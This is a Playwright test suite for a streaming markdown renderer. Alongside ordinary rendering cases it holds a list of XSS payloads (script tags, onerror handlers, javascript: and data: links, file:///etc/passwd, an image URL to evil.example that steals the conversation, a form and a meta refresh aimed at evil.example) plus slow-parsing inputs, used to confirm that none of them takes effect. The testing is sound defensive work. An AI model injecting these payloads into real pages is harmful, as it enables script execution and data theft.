"""Markdown rendering: complete, streaming, and hostile texts."""

import random

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Errors, Open
from tests.browser.steps import script

RENDER = script("render.js")


@pytest.fixture
def page(open_page: Open) -> Page:
    return open_page()


def render(page: Page, text: str, cuts: list[int] | None = None) -> str:
    return page.evaluate(RENDER, [text, cuts or []])


def link(href: str, label: str | None = None) -> str:
    return f"<a href={href}>{label or href}</a>"


CODE = "<div class=code-block><pre><code>{}</code></pre></div>"
TABLE = "<div class=table-wrap><table><thead><tr>{}</tr></thead><tbody>{}</tbody></table></div>"

CASES = {
    "paragraphs": ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
    "break by spaces": ("one  \ntwo", "<p>one<br></br>two</p>"),
    "break by backslash": ("one\\\ntwo", "<p>one<br></br>two</p>"),
    "emphasis": (
        "*a* _b_ **c** __d__ ~~e~~",
        "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <s>e</s></p>",
    ),
    "both emphases": ("***a***", "<p><em><strong>a</strong></em></p>"),
    "emphasis in emphasis": ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    "one run closes two": ("*a **b***", "<p><em>a <strong>b</strong></em></p>"),
    "unclosed emphasis": ("**a *b", "<p>**a *b</p>"),
    "crossing emphasis": ("*a __b* c__", "<p><em>a __b</em> c__</p>"),
    "no emphasis in words": ("snake_case_name 2 * 3 * 4", "<p>snake_case_name 2 * 3 * 4</p>"),
    "asterisk in a word": ("un*believ*able", "<p>un<em>believ</em>able</p>"),
    "long runs": ("****a****", "<p><strong><strong>a</strong></strong></p>"),
    "code span": ("`a*b*` and ``c`d``", "<p><code>a*b*</code> and <code>c`d</code></p>"),
    "code span keeps backslashes": ("`a\\`", "<p><code>a\\</code></p>"),
    "unclosed code span": ("`` a ` b", "<p>`` a ` b</p>"),
    "escapes": ("\\*a\\* \\\\ \\q", "<p>*a* \\ \\q</p>"),
    "link": ("[a *b*](https://x.y/z)", "<p>" + link("https://x.y/z", "a <em>b</em>") + "</p>"),
    "link with title": ('[a](https://x.y "t")', "<p>" + link("https://x.y", "a") + "</p>"),
    "link with parentheses": (
        "[a](https://x.y/(b)c)",
        "<p>" + link("https://x.y/(b)c", "a") + "</p>",
    ),
    "link in pointed brackets": ("[a](<https://x.y>)", "<p>" + link("https://x.y", "a") + "</p>"),
    "mail": ("[a](mailto:b@c.d)", "<p>" + link("mailto:b@c.d", "a") + "</p>"),
    "auto link": ("<https://x.y>", "<p>" + link("https://x.y") + "</p>"),
    "bare address": ("see https://x.y/a_b_c.", "<p>see " + link("https://x.y/a_b_c") + ".</p>"),
    "bare address in parentheses": ("(https://x.y)", "<p>(" + link("https://x.y") + ")</p>"),
    "brackets that are none": ("[a] [b](c d) ]", "<p>[a] [b](c d) ]</p>"),
    "no link in a link": (
        "[a [b](https://x) c](https://y)",
        "<p>[a " + link("https://x", "b") + " c](" + link("https://y") + ")</p>",
    ),
    "image is a link": ("![a](https://x.y/p.png)", "<p>" + link("https://x.y/p.png", "a") + "</p>"),
    "unsafe address is text": ("[a](javascript:b)", "<p>[a](javascript:b)</p>"),
    "headings": ("# a\n## b ##\n###### *c*", "<h3>a</h3><h4>b</h4><h6><em>c</em></h6>"),
    "headings keep their sharps": ("# C#\n#none", "<h3>C#</h3><p>#none</p>"),
    "rule": ("a\n\n---\n* * *\nb", "<p>a</p><hr></hr><hr></hr><p>b</p>"),
    "fence": ("```py x\na < b\n\n  c\n```\nd", CODE.format("a < b\n\n  c") + "<p>d</p>"),
    "fence of tildes": ("~~~\n```\n~~~", CODE.format("```")),
    "longer fence": ("````\n```\n````", CODE.format("```")),
    "open fence": ("```\na\n``", CODE.format("a\n``")),
    "fence ends a paragraph": ("a\n```\nb\n```", "<p>a</p>" + CODE.format("b")),
    "fence keeps tabs": ("```\n\ta\n```", CODE.format("\ta")),
    "indented code": (
        "a\n\n    b\n\n      c\n\nd",
        "<p>a</p>" + CODE.format("b\n\n  c") + "<p>d</p>",
    ),
    "list": ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
    "ordered list": ("3. a\n4. b", "<ol start=3><li>a</li><li>b</li></ol>"),
    "loose list": ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
    "nested list": (
        "- a\n  - b\n    1. c\n- d",
        "<ul><li>a<ul><li>b<ol><li>c</li></ol></li></ul></li><li>d</li></ul>",
    ),
    "list without enough indentation": (
        "1. a\n  - b\n2. c",
        "<ol><li>a</li></ol><ul><li>b</li></ul><ol start=2><li>c</li></ol>",
    ),
    "text goes on in an item": ("- a\nb\n\nc", "<ul><li>a\nb</li></ul><p>c</p>"),
    "paragraphs in an item": ("- a\n\n  b", "<ul><li><p>a</p><p>b</p></li></ul>"),
    "code in an item": (
        "1. a\n   ```\n   b\n     c\n   ```\n2. d",
        "<ol><li>a" + CODE.format("b\n  c") + "</li><li>d</li></ol>",
    ),
    "other marker, other list": (
        "- a\n* b\n1. c",
        "<ul><li>a</li></ul><ul><li>b</li></ul><ol><li>c</li></ol>",
    ),
    "year is no list": ("It was\n1986. A year", "<p>It was\n1986. A year</p>"),
    "list after a paragraph": ("a:\n- b\n1. c", "<p>a:</p><ul><li>b</li></ul><ol><li>c</li></ol>"),
    "tasks": (
        "- [x] a\n- [ ] b",
        "<ul><li class=task><input checked=></input> a</li>"
        "<li class=task><input></input> b</li></ul>",
    ),
    "empty item": ("-\n- a", "<ul><li></li><li>a</li></ul>"),
    "quote": ("> a\n> - b\nc", "<blockquote><p>a</p><ul><li>b\nc</li></ul></blockquote>"),
    "quote in a quote": (
        "> a\n>> b",
        "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
    ),
    "table": (
        "|a|b|\n|-|:-:|\n|*c*|d\\|e|",
        TABLE.format(
            "<th>a</th><th class=center>b</th>",
            "<tr><td><em>c</em></td><td class=center>d|e</td></tr>",
        ),
    ),
    "table without outer bars": (
        "a | b\n--|-:\nc |",
        TABLE.format(
            "<th>a</th><th class=right>b</th>", "<tr><td>c</td><td class=right></td></tr>"
        ),
    ),
    "table without rows": (
        "|a|\n|-|",
        TABLE.format("<th>a</th>", "").replace("<tbody></tbody>", ""),
    ),
    "bars that are no table": ("a | b\nc | d", "<p>a | b\nc | d</p>"),
    "html is text": ("<b>a</b> <!-- c --> &amp;", "<p><b>a</b> <!-- c --> &</p>"),
    "link by reference": (
        "[a][b] and [b]\n\n- [ ] [b]\n\n[b]: https://x.y 't'",
        f"<p>{link('https://x.y', 'a')} and {link('https://x.y', 'b')}</p>"
        f"<ul><li class=task><input></input> {link('https://x.y', 'b')}</li></ul>",
    ),
    "mail address": ("at b@c.de.", "<p>at " + link("mailto:b@c.de", "b@c.de") + ".</p>"),
    "file names are no hosts": ("readme.md, node.js", "<p>readme.md, node.js</p>"),
    "highlighted listing": (
        "```python\nif x: # y\n```",
        CODE.format("<span class=hljs-keyword>if</span> x: <span class=hljs-comment># y</span>"),
    ),
    "unknown language": ("```nosuch\nif x\n```", CODE.format("if x")),
    "windows line ends": ("a\r\n\r\n- b\r\n- c", "<p>a</p><ul><li>b</li><li>c</li></ul>"),
    "nothing": ("", ""),
    "blank": ("\n \n\t\n", ""),
}


def test_structure(page: Page) -> None:
    """Each text of the table renders to its nodes."""
    wrong = {
        name: (got, wanted)
        for name, (text, wanted) in CASES.items()
        if (got := render(page, text)) != wanted
    }
    assert not wrong


def test_as_it_comes_in(page: Page) -> None:
    """Character by character the end is the same as at once: no settled block was wrong."""
    text = "\n\n".join(text for text, _ in CASES.values())
    assert render(page, text, list(range(len(text)))) == render(page, text)
    for name, (text, wanted) in CASES.items():
        assert render(page, text, list(range(len(text)))) == wanted, name


PIECES = [
    *("a", "b ", "word", " ", "  ", "\n", "\n\n", "    ", "\t", "# ", "#", "- ", "* ", "1. "),
    *("> ", ">", "---", "***", "*", "**", "_", "~~", "`", "``", "```", "~~~", "```py\n", "\n```\n"),
    *("$", "$$", "\n$$\n", "\\(", "\\)", "\\[", "\\]\n", "5", "\\frac{1}{2}", "[a]: https://x.y\n"),
    *("|", "|-|-|\n", "| a | b |\n", "[", "](", ")", "![", "https://a.b/c", "<", ">", "\\", "[x] "),
    *("<script>", "javascript:x", "é", "漢", "😀", "\r\n", "\u2028", "\x00"),
]  # fmt: skip


def test_random_texts(page: Page) -> None:
    """Any text, cut anywhere, ends as it does at once and makes only the elements of markdown."""
    draw = random.Random(20)
    documents = []
    for _ in range(400):
        text = "".join(draw.choices(PIECES, k=draw.randint(1, 60)))
        cuts = sorted(draw.randint(0, len(text)) for _ in range(draw.randint(0, 12)))
        documents.append([text, cuts])
    wrong = page.evaluate(
        f"""async (documents) => {{
          const render = {RENDER};
          const wrong = [];
          for (const [text, cuts] of documents) {{
            const [whole, parts] = [await render([text, []]), await render([text, cuts])];
            if (whole !== parts) wrong.push([text, cuts, whole, parts]);
          }}
          return wrong;
        }}""",
        documents,
    )
    assert not wrong, wrong[0]


HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt:window.pwned=1)",
    "[a](java\tscript:window.pwned=1)",
    "[a](<java\x01script:window.pwned=1>)",
    "[a](&#106;avascript:window.pwned=1)",
    "[a](data:text/html,<script>window.pwned=1</script>)",
    "[a](vbscript:x)",
    "[a](blob:https://x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/)",
    "[a](/logout)",
    "<javascript:window.pwned=1>",
    '[a](https://x" onclick="window.pwned=1)',
    "![a](https://evil.example/steal?conversation)",
    "![a](javascript:window.pwned=1)",
    '```"><img src=x onerror=window.pwned=1>\nx\n```',
    "|<img src=x onerror=window.pwned=1>|\n|-|\n|<script>window.pwned=1</script>|",
    "# <style>*{display:none}</style>",
    "<form action=https://evil.example><input name=key></form>",
    "<base href=https://evil.example>",
    "\\(\\href{javascript:window.pwned=1}{a} \\url{javascript:window.pwned=1}\\)",
    "$\\htmlData{x=1}{a} \\includegraphics{https://evil.example/x} \\htmlStyle{color:red}{b}$",
    "$$\n<img src=x onerror=window.pwned=1>\n$$",
    "$\\text{</annotation></math><img src=x onerror=window.pwned=1>}$",
    "\\[\\def\\a{\\a\\a}\\a\\]",
    "$\\rule{99999em}{99999em}$",
    "```js\n</code></pre><img src=x onerror=window.pwned=1>\n```",
    '```<img/src=x/onerror="window.pwned=1">\nx\n```',
    "[a]: javascript:window.pwned=1\n\n[a]",
    "- [x](javascript:window.pwned=1)\n> <meta http-equiv=refresh content=0;url=//evil.example>",
]

CHECK = script("check.js")


def test_hostile_texts(page: Page) -> None:
    """No text of a model becomes a script, a request or a link to anything but the web and mail."""
    assert page.evaluate(CHECK, HOSTILE) == [[], None]


def test_policy_stops_what_the_renderer_let_pass(page: Page, errors: Errors) -> None:
    """Were the page to parse HTML after all, the browser would refuse: it wants trusted types."""
    caught = page.evaluate(
        """() => {
          try {
            document.createElement("div").innerHTML = "<b>a</b>";
          } catch (error) {
            return error.name;
          }
        }"""
    )
    assert caught == "TypeError"
    errors.allow("This document requires 'TrustedHTML'")


LONG = {
    "stars": "*" * 100_000,
    "opened stars": "*a " * 50_000,
    "alternating marks": "*a _b " * 30_000,
    "closed marks": "*a* " * 30_000,
    "nested marks": "*a **b " * 20_000 + "** *" * 20_000,
    "brackets": "[" * 100_000,
    "closed brackets": "[" * 50_000 + "](" * 50_000,
    "backticks": "".join("`" * n + " " for n in range(1, 500)),
    "quotes": ">" * 100_000,
    "nested lists": "".join("  " * n + "- a\n" for n in range(500)),
    "markers in one line": "- " * 50_000,
    "bars": "|" * 100_000,
    "bars and dashes": "|a" * 20_000 + "\n" + "|-" * 20_000,
    "spaces": "a" + " " * 100_000 + "b",
    "fence line": "```" + "a" * 100_000 + "`",
    "sharps": "#" * 100_000,
    "rule with a letter": "- " * 50_000 + "x",
    "address": "https://" + "a)" * 50_000,
    "angle brackets": "<https://" * 20_000,
    "link targets": "[a](" * 30_000,
    "link spaces": "[a](b" + " " * 100_000 + ")",
    "backslashes": "\\" * 100_000,
    "lines": "a\n" * 50_000,
    "dollars": "$a " * 30_000,
    "opened math": "\\(a " * 30_000,
    "opened displays": "\\[\n" * 30_000,
    "opened displays in quotes": "> $$\n" * 30_000,
    "definitions": "".join(f"[{n}]: https://x.y\n" for n in range(5000)),
    "braces": "$" + "{" * 4000 + "$",
    "roots": "$" + "\\sqrt" * 900 + "x$",
    "code": "```js\n" + "a({[/" * 9_000 + "\n```",
}


@pytest.mark.slow
def test_long_texts(page: Page) -> None:
    """Text made to be slow or deep is neither: a quadratic step would take minutes here."""
    for name, text in LONG.items():
        assert page.evaluate(CHECK, [text]) == [[], None], name


GROW = """
async ([texts, selector]) => {
  const { MarkdownView } = await import("/static/markdown_view.js");
  const element = document.createElement("div");
  const view = new MarkdownView(element);
  const seen = texts.map((text) => {
    view.update(text);
    return [...element.querySelectorAll(selector)];
  });
  return seen.slice(1).map((nodes, at) => seen[at].map((node, index) => node === nodes[index]));
}
"""


def test_what_is_complete_stays(page: Page) -> None:
    """As text comes in, nodes that are complete are not made again: a selection in them lasts, and
    a long listing, list or table costs what is added to it."""

    def kept(selector: str, *texts: str) -> list[list[bool]]:
        return page.evaluate(GROW, [list(texts), selector])

    assert kept("p", "one\n\ntwo\n\nthree\n", "one\n\ntwo\n\nthree\nfour") == [[True] * 3]
    assert kept("pre", "```py\na\n", "```py\na\nb", "```py\na\nbc\n") == [[True], [True]]
    assert kept("li", "- a\n- b\n- c", "- a\n- b\n- cd\n- e") == [[True] * 3]
    assert kept("li", "- a\n- b", "- a\n- b\n\n- c") == [[True, False]]
    assert kept("p", "a [b]\n\nc\n\nd\n", "a [b]\n\nc\n\nd\n\n[b]: https://x.y") == [
        [True, False, False]
    ]
    table = "|a|b|\n|-|-|\n|1|2|\n"
    assert kept("tr", table, table + "|3", table + "|3|4|\n|5|") == [[True] * 2, [True] * 3]


def test_a_growing_listing_is_not_parsed_again(page: Page) -> None:
    """Text of an open listing is appended; colours come when it is closed."""
    code = "".join(f"value_{n} = {n}\n" for n in range(500))
    changes = page.evaluate(
        """async (text) => {
          const { MarkdownView } = await import("/static/markdown_view.js");
          const element = document.createElement("div");
          const view = new MarkdownView(element);
          view.update(text.slice(0, 100));
          const records = [];
          const observer = new MutationObserver((found) => records.push(...found));
          observer.observe(element, { childList: true, subtree: true, characterData: true });
          for (let end = 101; end <= text.length; end += 1) view.update(text.slice(0, end));
          records.push(...observer.takeRecords());
          const kinds = new Set(records.map(({ type }) => type));
          const whole = element.querySelector("pre").textContent;
          view.update(text + "```\\n");
          return [[...kinds], whole, element.querySelectorAll(".hljs-number").length];
        }""",
        "before\n\n```python\n" + code,
    )
    assert changes == [["characterData"], code, 500]
